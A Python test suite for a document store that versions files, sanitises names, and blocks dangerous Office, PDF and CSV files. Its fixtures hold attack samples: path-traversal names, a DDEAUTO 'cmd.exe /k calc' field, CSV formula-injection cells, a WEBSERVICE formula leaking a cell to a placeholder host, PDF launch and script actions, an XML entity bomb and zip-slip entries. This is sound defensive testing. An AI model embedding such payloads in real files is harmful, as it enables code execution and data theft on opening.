"""Files that are kept: under which name, with which content, and what is refused."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import errno
import io
import os
import subprocess
import sys
import textwrap
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import docx
import nbformat
import openpyxl
import pptx
import pyarrow as pa
import pyarrow.parquet as pq
import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reportlab.pdfgen.canvas import Canvas

from analyst_magic.cleaning.names import safe_name
from analyst_magic.documents import Store, check
from analyst_magic.errors import AnalystError, FirewallError, InputError
from analyst_magic.results.document import Document


def workbook(value: object = 1) -> bytes:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The archive with one more part."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def save(name: str, data: bytes, folder: Path) -> Path:
    return Store(folder).save(name, data).path


def left(folder: Path) -> set[str]:
    """What a user sees in a folder; nothing half written may be hidden in it."""
    assert {path.name for path in folder.glob(".*")} <= {".versions"}
    assert not list(folder.rglob("*.part"))
    return {path.name for path in folder.iterdir()} - {".versions"}


def test_a_file_is_kept_below_the_working_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    kept = Store().save("sales.xlsx", workbook("Oslo"))
    assert kept.path == tmp_path / "analyst_output" / "sales.xlsx"
    assert openpyxl.load_workbook(kept.path).active["A1"].value == "Oslo"
    assert (kept.version, kept.extent, kept.unchanged) == (1, "1 sheet", False)


def test_made_again_it_is_a_new_version_and_the_old_one_can_be_had_back(tmp_path: Path) -> None:
    store = Store(tmp_path)
    one = store.save("a.txt", b"one\nsame")
    again = store.save("a.txt", b"one\nsame")
    two = store.save("a.txt", b"two\nsame")
    assert (one.version, again.version, again.unchanged, two.version) == (1, 1, True, 2)
    assert left(tmp_path) == {"a.txt"}
    assert two.path.read_bytes() == b"two\nsame"
    assert "-one\n+two" in store.difference("a.txt", 1, 2)
    assert store.restore("a.txt", 1).read_bytes() == b"one\nsame"
    assert [kept.version for kept in store.versions("a.txt")] == [1, 2, 3]
    assert [(kept.path.name, kept.version) for kept in store.documents()] == [("a.txt", 3)]
    with pytest.raises(InputError, match="no version 9"):
        store.read("a.txt", 9)
    with pytest.raises(InputError, match=r"no document b\.txt"):
        store.versions("b.txt")


def test_what_was_deleted_comes_back_as_it_was(tmp_path: Path) -> None:
    path = save("a.txt", b"one", tmp_path)
    path.unlink()
    kept = Store(tmp_path).save("a.txt", b"one")
    assert (kept.version, kept.path.read_bytes()) == (1, b"one")


def office_file(format: str, when: dt.datetime) -> bytes:
    buffer = io.BytesIO()
    if format == "pdf":
        page = Canvas(buffer)
        page.drawString(100, 700, "revenue")
        page.save()
        return buffer.getvalue()
    made: Any = {"xlsx": openpyxl.Workbook, "docx": docx.Document, "pptx": pptx.Presentation}[format]()
    properties = made.properties if format == "xlsx" else made.core_properties
    properties.created = properties.modified = when
    made.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("format", ["xlsx", "docx", "pptx", "pdf"])
def test_the_time_of_writing_makes_no_new_version(format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = Store(tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    one = office_file(format, dt.datetime(2024, 1, 1))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1800000000")
    two = office_file(format, dt.datetime(2026, 1, 1))
    assert one != two
    assert store.save(f"a.{format}", one).version == 1
    again = store.save(f"a.{format}", two)
    assert (again.version, again.unchanged) == (1, True)
    assert again.path.read_bytes() == store.read(f"a.{format}", 1)


def test_another_question_gets_a_file_of_its_own(tmp_path: Path) -> None:
    store = Store(tmp_path)
    assert store.save("sales.txt", b"1", "sales by region").path.name == "sales.txt"
    assert store.save("sales.txt", b"2", "sales by month").path.name == "sales_2.txt"
    assert store.save("sales.txt", b"3", "sales by region").path.name == "sales.txt"


def test_what_the_user_already_has_is_never_overwritten(tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("precious")
    (tmp_path / "a.txt").symlink_to(tmp_path / "mine")
    (tmp_path / "a_2.txt").mkdir()
    (tmp_path / "a_3.txt").symlink_to(tmp_path / "nowhere")
    assert save("a.txt", b"precious", tmp_path).name == "a_4.txt"
    assert (tmp_path / "mine").read_text() == "precious"
    assert not (tmp_path / "nowhere").exists()


def test_what_the_user_has_changed_is_never_overwritten(tmp_path: Path) -> None:
    path = save("a.txt", b"one", tmp_path)
    path.write_text("one, and my own remarks")
    assert save("a.txt", b"two", tmp_path).name == "a_2.txt"
    assert path.read_text() == "one, and my own remarks"


def refuse_link(source: Path, target: Path) -> None:
    raise PermissionError(errno.EPERM, "Operation not permitted")


@pytest.mark.parametrize("links", [True, False], ids=["hard links", "no hard links"])
def test_many_notebooks_at_once_lose_nothing(tmp_path: Path, links: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    if not links:  # as on a FAT disk, where link() is refused
        monkeypatch.setattr(os, "link", refuse_link)
    contents = [f"content {number}".encode() for number in range(40)]
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda data: save("report.txt", data, tmp_path), contents))
    store = Store(tmp_path)
    kept = {store.read(name.path.name, n.version) for name in store.documents() for n in store.versions(name.path.name)}
    assert kept == set(contents)
    assert left(tmp_path) == {"report.txt"}


def test_two_processes_at_once_lose_nothing(tmp_path: Path) -> None:
    code = """
        import sys
        from pathlib import Path
        from analyst_magic.documents import Store
        for number in range(20):
            Store(Path(sys.argv[1])).save("r.txt", f"{sys.argv[2]} {number}".encode())
    """
    command = [sys.executable, "-c", textwrap.dedent(code), str(tmp_path)]
    running = [subprocess.Popen([*command, name]) for name in ("one", "two")]
    assert [process.wait(60) for process in running] == [0, 0]
    store = Store(tmp_path)
    kept = {store.read("r.txt", version.version) for version in store.versions("r.txt")}
    assert kept == {f"{name} {number}".encode() for name in ("one", "two") for number in range(20)}
    assert left(tmp_path) == {"r.txt"}


def test_old_versions_go_but_for_the_latest_and_those_that_a_notebook_shows(tmp_path: Path) -> None:
    store = Store(tmp_path / "analyst_output")
    shown = store.save("a.txt", b"x" * 100)
    card = Document(shown.path, shown.size, version=shown.version)._repr_mimebundle_()
    output = nbformat.v4.new_output("display_data", data=card)
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", outputs=[output])])
    for number in range(4):
        store.save("a.txt", f"{number}".encode() * 100)
    nbformat.write(notebook, tmp_path / "n.ipynb")
    assert store.prune(versions=2) == 2
    assert [kept.version for kept in store.versions("a.txt")] == [1, 4, 5]
    assert store.prune(size=150) == 1
    assert store.prune(days=0) == 0
    assert [kept.version for kept in store.versions("a.txt")] == [1, 5]
    assert store.read("a.txt", 1) == b"x" * 100
    assert len(list((tmp_path / "analyst_output" / ".versions").glob("*.txt"))) == 2
    (tmp_path / "n.ipynb").unlink()
    assert store.prune(days=0) == 1


def test_a_damaged_index_is_set_aside_and_no_file_is_lost(tmp_path: Path) -> None:
    save("a.txt", b"one", tmp_path)
    (tmp_path / ".versions" / "index.sqlite3").write_bytes(b"no database" * 100)
    assert save("a.txt", b"two", tmp_path).name == "a_2.txt"
    assert (tmp_path / "a.txt").read_bytes() == b"one"
    assert list((tmp_path / ".versions").glob("index.damaged-*"))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("report.XLSX", "report.xlsx"),
        ("../../etc/cron.d/a.txt", "a.txt"),
        ("C:\\Windows\\System32\\a.csv", "a.csv"),
        ("..txt", "document.txt"),
        (".txt", "document.txt"),
        ("-rf.md", "rf.md"),
        (".bashrc.txt", "bashrc.txt"),
        ("CON.txt", "_CON.txt"),
        ("com1.backup.csv", "com1_backup.csv"),
        ("leak.vl.json", "leak_vl.json"),
        ("data.yml", "data.yaml"),
        ("a\u202efdp.xlsx", "afdp.xlsx"),
        ("a\x00b\nc.txt", "ab_c.txt"),
        ('a<b>:"c|?*.txt', "a_b___c___.txt"),
        ("photo.jpeg", "photo.jpg"),
        ("Übersicht 2024 – Größe 😀.pdf", "Übersicht 2024 – Größe 😀.pdf"),
        ("a . .txt", "a.txt"),
        (".ipynb_checkpoints/a.png", "a.png"),
        ("..\\..\\evil.PDF", "evil.pdf"),
        ('a"onload=1.csv', "a_onload_1.csv"),
        ("R&D, 2024 (final).csv", "R&D, 2024 (final).csv"),
    ],
)
def test_names_are_made_safe(given: str, kept: str) -> None:
    assert safe_name(given) == kept


def test_a_long_name_is_cut_at_a_whole_character() -> None:
    name = safe_name("ü" * 500 + ".txt")
    assert len(name.encode()) < 130
    assert set(name[:-4]) == {"ü"}


@pytest.mark.parametrize(
    "name", ["a.exe", "a.xlsm", "a.py", "a.ipynb", "a.pkl", "a", "", "a.xlsx.bat", "xlsx", "a.pdf/"]
)
def test_files_that_could_run_are_not_saved(name: str, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot be saved") as caught:
        save(name, b"x", tmp_path)
    assert "xlsx" in caught.value.next_step
    assert not list(tmp_path.iterdir())


def test_real_files_of_every_kind_pass() -> None:
    word, slides, table = io.BytesIO(), io.BytesIO(), io.BytesIO()
    docx.Document().save(word)
    pptx.Presentation().save(slides)
    pq.write_table(pa.table({"a": [1]}), table)
    check("xlsx", workbook())
    check("docx", word.getvalue())
    check("pptx", slides.getvalue())
    check("parquet", table.getvalue())
    assert check("pdf", office_file("pdf", dt.datetime(2024, 1, 1))).extent == "1 page"
    check("csv", "\ufeffname,größe\n".encode())
    check("md", b"")


@pytest.mark.parametrize(
    ("format", "data", "reason"),
    [
        ("xlsx", b"", "not an Office file"),
        ("xlsx", b"PK\x03\x04 and then nothing", "zip archive is broken"),
        ("docx", workbook(), "not a .docx file inside"),
        ("xlsx", with_part(workbook(), "xl/vbaProject.bin", b"Sub Auto_Open()"), "macros"),
        ("xlsx", with_part(workbook(), "../../evil", b""), "leads out of it"),
        ("xlsx", with_part(workbook(), "XL/workbook.xml", b""), "one name"),
        ("xlsx", with_part(workbook(), "xl/media/a.bin", b"\0" * 30_000_000), "times its size"),
        ("pdf", b"MZ\x90", "not a PDF"),
        ("pdf", b"%PDF-1.4\n...", "breaks off"),
        ("png", b"<svg/>", "not a PNG"),
        ("jpg", b"GIF89a", "not a JPEG"),
        ("parquet", b"PAR1", "not a whole Parquet file"),
        ("csv", b"\xff\xfea\0", "not UTF-8"),
        ("txt", b"MZ\0\0", "not text"),
    ],
)
def test_files_that_are_not_what_they_say_are_refused_with_the_reason(
    format: str, data: bytes, reason: str, tmp_path: Path
) -> None:
    with pytest.raises(FirewallError, match=reason):
        save(f"a.{format}", data, tmp_path)
    assert not list(tmp_path.iterdir())


def test_macros_under_another_name_are_refused_too() -> None:
    book = workbook()
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    with pytest.raises(FirewallError, match="macros"):
        check("xlsx", buffer.getvalue())


def test_a_folder_that_cannot_be_made_is_named(tmp_path: Path) -> None:
    (tmp_path / "analyst_output").write_text("a file, not a folder")
    with pytest.raises(AnalystError, match="analyst_output") as caught:
        save("a.txt", b"x", tmp_path / "analyst_output")
    assert caught.value.next_step


@pytest.mark.skipif(os.name != "posix", reason="needs the file size limit of POSIX")
def test_a_full_disk_leaves_no_half_file_and_names_the_folder(tmp_path: Path) -> None:
    code = """
        import resource, sys
        from pathlib import Path
        from analyst_magic.documents import Store
        from analyst_magic.errors import AnalystError
        resource.setrlimit(resource.RLIMIT_FSIZE, (90_000, 90_000))
        try:
            Store(Path(sys.argv[1])).save("a.txt", b"x" * 100_000)
        except AnalystError as error:
            print(error)
    """
    command = [sys.executable, "-c", textwrap.dedent(code), str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True)
    assert f"a.txt cannot be saved in {tmp_path}" in done.stdout
    assert left(tmp_path) == set()


# -- what acts when it is opened ---------------------------------------------------------------------------------------


RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(data: bytes, name: str, change: Callable[[str], str]) -> bytes:
    """The archive with one part's text changed, or made."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    parts[name] = change(parts.get(name, b"").decode()).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    return buffer.getvalue()


def related(data: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="rId999" Type="{RELS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed(data, part, lambda text: text.replace("</Relationships>", f"{relation}</Relationships>"))


def formula(text: str) -> bytes:
    return workbook(text)


def word_field(*pieces: str) -> bytes:
    """A document with one field, its code in pieces."""
    document = docx.Document()
    paragraph = document.add_paragraph("abc")
    for kind in ("begin", *pieces, "end"):
        run = paragraph.add_run()._r
        if kind in {"begin", "end"}:
            mark = docx.oxml.OxmlElement("w:fldChar")
            mark.set(docx.oxml.ns.qn("w:fldCharType"), kind)
            run.append(mark)
        else:
            instruction = docx.oxml.OxmlElement("w:instrText")
            instruction.text = kind
            run.append(instruction)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pdf_with(**root: Any) -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(office_file("pdf", dt.datetime(2024, 1, 1))))
    for key, value in root.items():
        writer.root_object[pypdf.generic.NameObject(f"/{key}")] = value
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def attached() -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(office_file("pdf", dt.datetime(2024, 1, 1))))
    writer.add_attachment("a.exe", b"MZ")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted() -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(office_file("pdf", dt.datetime(2024, 1, 1))))
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def plain(format: str) -> bytes:
    return office_file(format, dt.datetime(2024, 1, 1))


NAMES = pypdf.generic.NameObject
LAUNCH = pypdf.generic.DictionaryObject({NAMES("/S"): NAMES("/Launch")})
SCRIPT = pypdf.generic.DictionaryObject(
    {NAMES("/S"): NAMES("/JavaScript"), NAMES("/JS"): pypdf.generic.TextStringObject("app.alert(1)")}
)
REMOTE = pypdf.generic.DictionaryObject(
    {NAMES("/S"): NAMES("/URI"), NAMES("/URI"): pypdf.generic.TextStringObject("javascript:alert(1)")}
)
WORD = "word/_rels/document.xml.rels"
BOMB = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
ATTACKS = {
    "docx attached template": ("docx", lambda: related(plain("docx"), WORD, "attachedTemplate",
                                                       "http://x.test/t.dotm"), "template from elsewhere"),
    "docx remote image": ("docx", lambda: related(plain("docx"), WORD, "image",
                                                  "http://x.test/a.png"), "loads something from elsewhere"),
    "docx OLE": ("docx", lambda: related(plain("docx"), WORD, "oleObject", "a.bin", "Internal"),
                 "OLE"),
    "docx script link": ("docx", lambda: related(plain("docx"), WORD, "hyperlink",
                                                 "javascript:alert(1)"), "neither to the web"),
    "docx UNC link": ("docx", lambda: related(plain("docx"), WORD, "hyperlink",
                                              "file://host/share"), "neither to the web"),
    "docx DDE field": ("docx", lambda: word_field("DDEAUTO c:\\windows\\system32\\cmd.exe /k calc"), "DDEAUTO"),
    "docx DDE field in pieces": ("docx", lambda: word_field("DD", "EAUTO cmd"), "DDEAUTO"),
    "docx included picture": ("docx", lambda: word_field(' INCLUDEPICTURE "http://x.test/a.png"'), "INCLUDEPICTURE"),
    "docx entities": ("docx", lambda: changed(plain("docx"), "word/settings.xml", lambda text: BOMB), "entities"),
    "docx broken XML": ("docx", lambda: changed(plain("docx"), "word/settings.xml", lambda text: "<a>"), "broken XML"),
    "docx deep XML": ("docx", lambda: changed(plain("docx"), "word/settings.xml", lambda t: "<a>" * 600 + "</a>" * 600),
                      "nested too deeply"),
    "docx other document": ("docx", lambda: related(plain("docx"), WORD, "aFChunk", "a.html",
                                                    "Internal"), "takes in another document"),
    "xlsx WEBSERVICE": ("xlsx", lambda: formula('=WEBSERVICE("http://x.test/"&A2)'), "WEBSERVICE"),
    "xlsx DDE": ("xlsx", lambda: formula("=cmd|'/c calc'!A1"), "reaches out"),
    "xlsx RTD": ("xlsx", lambda: formula('=1+rtd("a",,"b")'), "RTD"),
    "xlsx link to a share": ("xlsx", lambda: formula('=HYPERLINK("\\\\host\\"&A2,"more")'), "neither to the web"),
    "xlsx other workbook": ("xlsx", lambda: formula("=[other.xlsx]Sheet1!A1"), "out of the workbook"),
    "xlsx share": ("xlsx", lambda: formula("='\\\\host\\share\\[a.xlsx]S'!A1"), "out of the workbook"),
    "xlsx external link": ("xlsx", lambda: related(workbook(), "xl/_rels/workbook.xml.rels", "externalLink", "a.xml",
                                                   "Internal"), "another workbook"),
    "xlsx connection": ("xlsx", lambda: related(workbook(), "xl/_rels/workbook.xml.rels", "connections", "c.xml",
                                                "Internal"), "data connection"),
    "xlsx hidden part": ("xlsx", lambda: with_part(workbook(), "xl/embeddings/oleObject1.bin", b"MZ"), "nothing in it"),
    "pdf script": ("pdf", lambda: pdf_with(OpenAction=SCRIPT), "a script"),
    "pdf attachment": ("pdf", attached, "embedded files"),
    "pdf program": ("pdf", lambda: pdf_with(OpenAction=LAUNCH), "starts a program"),
    "pdf script link": ("pdf", lambda: pdf_with(OpenAction=REMOTE), "neither to the web"),
    "pdf encrypted": ("pdf", encrypted, "encrypted"),
    "pdf nonsense": ("pdf", lambda: b"%PDF-1.4\n...\n%%EOF\n", "cannot be read"),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_what_acts_when_it_is_opened_is_refused(name: str, tmp_path: Path) -> None:
    format, make, reason = ATTACKS[name]
    with pytest.raises(FirewallError, match=reason):
        save(f"a.{format}", make(), tmp_path)
    assert not list(tmp_path.iterdir())


def test_what_only_looks_like_it_passes() -> None:
    assert check("xlsx", formula("=SUM(A2:A9)*1.5")).extent == "1 sheet"
    assert check("xlsx", formula('=HYPERLINK("https://example.org","site")'))
    assert check("xlsx", formula('=IF(A2>1,"call(now) | a!b","[x.xlsx]")'))
    assert check("docx", related(plain("docx"), WORD, "hyperlink", "https://example.org/a"))
    assert check("docx", word_field(' HYPERLINK "https://', 'example.org" '))


def test_cells_of_a_csv_that_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
    text = 'name,amount\n"=cmd|\'/c calc\'!A1",-5\n@SUM(A1),+3.5e2\nplain,-1 000\n-1+2,"a, ""b"""\n'
    kept = Store(tmp_path).save("a.csv", text.encode())
    assert "3 text cells" in kept.note
    rows = list(csv.reader(kept.path.open(newline="")))
    assert rows[1:] == [["'=cmd|'/c calc'!A1", "-5"], ["'@SUM(A1)", "+3.5e2"], ["plain", "-1 000"], ["'-1+2", 'a, "b"']]


@pytest.mark.parametrize(
    ("text", "becomes"),
    [
        ("name,note\nx,a;=cmd|' /C calc'!A0\n", "name,note\nx,a;'=cmd|' /C calc'!A0\n"),  # where ; ends a cell
        ("a,b\nx,y\t=1+1\n", "a,b\nx,y\t'=1+1\n"),
        ('a,b\nx,"y;=1+1"\n', 'a,b\nx,"y;\'=1+1"\n'),  # a quote within a cell ends nothing there
        ("a,b\nx,\"y\n=cmd|'/C calc'!A0\"\n", "a,b\nx,\"y\n'=cmd|'/C calc'!A0\"\n"),
        ("a,b\nx,y;-2+cmd|'/C calc'!A0\n", "a,b\nx,y;'-2+cmd|'/C calc'!A0\n"),
        ("sep=^\nx^=1+1\n", "sep=^\nx^'=1+1\n"),
        ('\ufeff"sep=]"\nx]@SUM(1)\n', '\ufeff"sep=]"\nx]\'@SUM(1)\n'),
        ("\ufeffname,x\r\nMüller,=1+1\r\n", "\ufeffname,x\r\nMüller,'=1+1\r\n"),  # all else stays
        ("a\n+1-202-555-0100\n", "a\n'+1-202-555-0100\n"),  # a spreadsheet would compute it
    ],
)
def test_a_cell_that_would_run_where_another_character_ends_it_is_text_too(text: str, becomes: str) -> None:
    checked = check("csv", text.encode())
    assert checked.data.decode() == becomes
    assert "1 text cell " in checked.note


@pytest.mark.parametrize(
    "text",
    [
        "a;b\r\n-1,5;x\r\n",
        'a,b\n-1,"-1,234.50"\n+49 30 123,-5 %\n-1e-5,-inf\n',
        "a,b\n-,--\n---,+\n=,==\n",
        "a,b\n-$5.00,-€3\n-1 days +23:00:00,-1+2j\n",
        'a,b\n1,"Smith, - see below; -5 or more"\n2,x => y\n',
        "\ufeffgröße\n-5\n",
        "",
    ],
)
def test_a_csv_in_which_nothing_runs_stays_as_it_is(text: str) -> None:
    checked = check("csv", text.encode())
    assert (checked.data.decode(), checked.note) == (text, "")


def test_no_csv_takes_the_check_much_time() -> None:
    for text in (
        " " * 1_000_000,
        ",-" + "1" * 1_000_000,
        "," + '"' * 1_000_000,
        ",-" + "1 " * 500_000,
        ("," + " " * 3_000) * 300,
    ):
        began = time.process_time()
        check("csv", text.encode())
        assert time.process_time() - began < 3, text[:10]


@settings(deadline=None)
@given(st.binary(max_size=300))
def test_no_bytes_whatsoever_break_the_check(data: bytes) -> None:
    for format, head in (("pdf", b"%PDF-1.7\n"), ("xlsx", b"PK\x03\x04"), ("csv", b""), ("docx", b"")):
        with contextlib.suppress(FirewallError):
            check(format, head + data)
    with contextlib.suppress(FirewallError):
        check("pdf", office_file("pdf", dt.datetime(2024, 1, 1))[:-400] + data + b"\nstartxref\n1\n%%EOF")
